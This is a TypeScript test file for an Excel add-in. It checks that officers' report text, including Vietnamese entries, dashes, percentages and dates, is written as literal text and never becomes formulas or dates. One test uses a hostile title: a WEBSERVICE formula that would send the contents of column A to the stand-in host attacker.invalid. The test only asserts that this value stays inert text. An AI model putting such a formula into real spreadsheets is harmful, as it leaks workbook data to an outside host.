/**
 * Text stays text (issues #11 and #12). The simulated host parses what is written as Excel does
 * (addin/preview/sim/typing.ts, from the JSDoc of Excel.Range.values), and every writer of the
 * add-in formats its text cells as text first, so officers' words never become formulas or dates.
 */
import { consolidate } from '../../core/consolidate';
import { demoRound } from '../../core/round';
import { summaryTables } from '../../core/summary-sheets';
import { DESCRIPTION_SKELETON, templateSheet } from '../../core/template-sheet';
import { writeCellValue } from '../../addin/excel/cells';
import { writeSummarySheets } from '../../addin/excel/summary';
import { insertTemplate } from '../../addin/excel/template';
import { installExcel, workbookOf } from '../helpers/excel-host';
import { manyReports } from '../helpers/reports';

describe('the simulated host parses written values as Excel does', () => {
  const write = async (value: string, format?: string) => {
    const host = installExcel(workbookOf({ Trang: [['']] }));
    await Excel.run(async (context) => {
      const cell = context.workbook.worksheets.getItem('Trang').getRange('A1');
      if (format) cell.numberFormat = [[format]];
      cell.values = [[value]];
      await context.sync();
    });
    const sheet = host.workbook.sheets[0]!;
    return { value: sheet.values[0]![0], formula: sheet.formulas.get('A1'), format: sheet.numberFormats.get('A1') };
  };

  test.each([
    ['=1+2', { value: '#NAME?', formula: '=1+2' }],
    ['-5', { value: -5 }],
    ['+30%', { value: 0.3 }],
    ['30%', { value: 0.3 }],
    ['1,234.5', { value: 1234.5 }],
    ['10/09/2024', { value: 45574, format: 'm/d/yyyy' }], // en-US: 9 October 2024, not 10 September
    ['2024-03-15', { value: 45366, format: 'm/d/yyyy' }],
    ['TRUE', { value: true }],
    ['Người dân', { value: 'Người dân' }],
  ])('%s written to a General cell becomes %o', async (text, expected) => {
    expect(await write(text)).toMatchObject(expected);
  });

  test('text that starts with "-" or "+" and is no number fails as an invalid formula', async () => {
    await expect(write('- Thực trạng:\n- Nội dung:')).rejects.toMatchObject({ code: 'InvalidArgument' });
    await expect(write('+30% hồ sơ đúng hạn')).rejects.toMatchObject({ code: 'InvalidArgument' });
  });

  test.each(['- Thực trạng:', '=WEBSERVICE("http://x")', '10/09/2024', '+30%', '007'])('%s written to a text ("@") cell stays that text', async (text) => {
    expect(await write(text, '@')).toEqual({ value: text, formula: undefined, format: '@' });
  });
});

describe('every writer of the add-in writes text as text', () => {
  test('officers\' text in the summary sheets is text, never a formula or a date', async () => {
    const round = demoRound();
    const reports = manyReports(2, 1);
    const hostile = reports[0]!.entries[0]!;
    hostile.title = '=WEBSERVICE("http://attacker.invalid/?"&TEXTJOIN(",",TRUE,A:A))';
    hostile.sections.thucTrang = '- Người dân phải chờ lâu';
    hostile.sections.hieuQua = '+30% hồ sơ đúng hạn';
    hostile.note = '10/09/2024';
    const host = installExcel();
    await writeSummarySheets(summaryTables(round, consolidate(round, reports)));
    for (const sheet of host.workbook.sheets) expect([...sheet.formulas.keys()]).toEqual([]);
    const cells = host.grid('Tổng hợp').flat();
    expect(cells).toContain(hostile.title);
    expect(cells.some((v) => typeof v === 'string' && v.includes('- Người dân phải chờ lâu'))).toBe(true);
  });

  test('Chèn mẫu writes the "- Thực trạng:" skeleton as text, and what the officer types below stays text', async () => {
    const host = installExcel();
    const layout = templateSheet(demoRound(), 'Phường 7');
    await insertTemplate(layout);
    const sheet = host.workbook.sheets.find((s) => s.name === 'Phụ lục')!;
    expect([...sheet.formulas.keys()]).toEqual([]);
    const description = layout.columns.findIndex((c) => c.key === 'description');
    expect(sheet.values[layout.firstDataRow]![description]).toBe(DESCRIPTION_SKELETON);
    await host.edit('Phụ lục', `E${layout.firstDataRow + 3}`, '- Người dân chờ lâu\n- Nội dung: +30%');
    await host.edit('Phụ lục', `F${layout.firstDataRow + 3}`, '10/09/2024');
    expect(sheet.values[layout.firstDataRow + 2]![description]).toBe('- Người dân chờ lâu\n- Nội dung: +30%');
    expect(sheet.values[layout.firstDataRow + 2]![description + 1]).toBe('10/09/2024');
  });

  test('a value the pane puts in a cell (the field fix) is written as text', async () => {
    const host = installExcel(workbookOf({ 'Phụ lục': [['', '']] }));
    await writeCellValue('Phụ lục', 'B1', '-1 (lĩnh vực)');
    expect(host.grid('Phụ lục')[0]![1]).toBe('-1 (lĩnh vực)');
  });
});
